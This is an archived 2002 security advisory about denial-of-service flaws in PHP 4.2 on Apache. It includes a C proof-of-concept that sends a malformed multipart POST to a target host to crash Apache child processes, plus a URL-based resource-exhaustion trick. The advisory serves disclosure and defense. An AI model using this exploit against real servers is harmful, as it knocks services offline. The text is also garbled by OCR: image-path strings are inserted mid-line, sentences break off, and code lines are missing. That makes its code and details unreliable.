TUCoPS :: Web :: PHP :: web5547.htm

PHP resource exhaustion Denial of Service
23th Jul 2002 [SBWID-5547]

    PHP resource exhaustion Denial of Service


    PHP for windows rel ?


    Matthew Murphy [http://www.murphy.101main.net] says :

    The PHP interpreter is a heavy-duty CGI EXE (or SAPI  module,  depending
    on configuration) that implements an HTML-embedded  script  language.  A
    vulnerability in PHP can be used to cause a denial of  service  in  some

    PHP's install process on Apache requires a "/php/" alias to be  created,
    as  it  resolves  CGI  paths  to  a  virtual.  (e.g,  /php/php.exe   not

    To solve the obvious security vulnerability posed  by  allowing  PHP  to
    run from the  web,  the  development  team  added  a  cgi.force_redirect
    option that is enabled by default in Apache.

    However, regardless of the force_redirect value, it  is  still  possibleto load the binary without a script path:

    (e.g, http://localhost/php/php)

    A problem exists in PHP; specifically, it does not terminate when  given
    no command-line arguments. A consistent flow of requests like the  above
    will exhaust all resources for CGI/ASAPI on the server.

    Exploit: http://www.murphy.101main.net/php-apache.c

    Compiles cleanly on WinMe with MSVC 6.0

     Update (02 August 2002)


    Exploit by bob, bob@dtors.net

    /* DSR-php4.2x.c

     * The follow is Proof Of Concept code to

     * to reproduce the segmentation violation

     * in PHP4.2.0 & PHP4.2.1 with Apache 1.3.26 on

     * x86 arch. Found by Joseph S. TestaII* Proof Of Concept code by bob@dtors.net

     * [notice] child pid 10779 exit signal Segmentation fault (11)





    #include <stdio.h>

    #include <string.h>

    #include <sys/socket.h>

    #include <netinet/in.h>

    #include <netdb.h>int main(int argc, char *argv[]) {

    int sock, i;

    char seg[250];

    struct in_addr addr;

    struct sockaddr_in sin;

    struct hostent *he;



    fprintf(stdout, "\nDSR-php4.2x.c By bob. POC.[www.dtors.net]\n\n");fprintf(stderr, "\nUsage : %s <host> <php file>\n\n", argv[0]);





    if ((he=gethostbyname(argv[1])) == NULL)


       fprintf(stderr, "ERROR: Hostname lookup failed!\n\n");




    sock=socket(AF_INET, SOCK_STREAM, 0);

    bcopy(he->h_addr, (char *)&sin.sin_addr, he->h_length);fprintf(stdout, "Connecting to %s... \n",argv[1]);

    if (connect(sock, (struct sockaddr*)&sin, sizeof(sin))!=0)


         fprintf(stderr, "ERROR: Connection Timed Out!\n");




    else {fprintf(stdout, "Sending headers... \n");

    sprintf(seg,"POST /%s HTTP/1.0\nContent-type: multipart/form-data; boundary=---123\nContent-length: 129\n\n---123\nContent-Disposition: filename\n\n\nhttp://www.dtors.net\n---123--\n\n",argv[2]);





    fprintf(stdout, "...headers sent! \n\n");

    fprintf(stdout, "Now check your error_log, for apache [child pid]signal(11)\n");







     Update (24 July 2002)



    Vejeta says :

    This does not apply when the php interpreter is  dynamically  loaded  by
    apache using the DSOinterface

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design & layout copyright © 1986-2023 AOH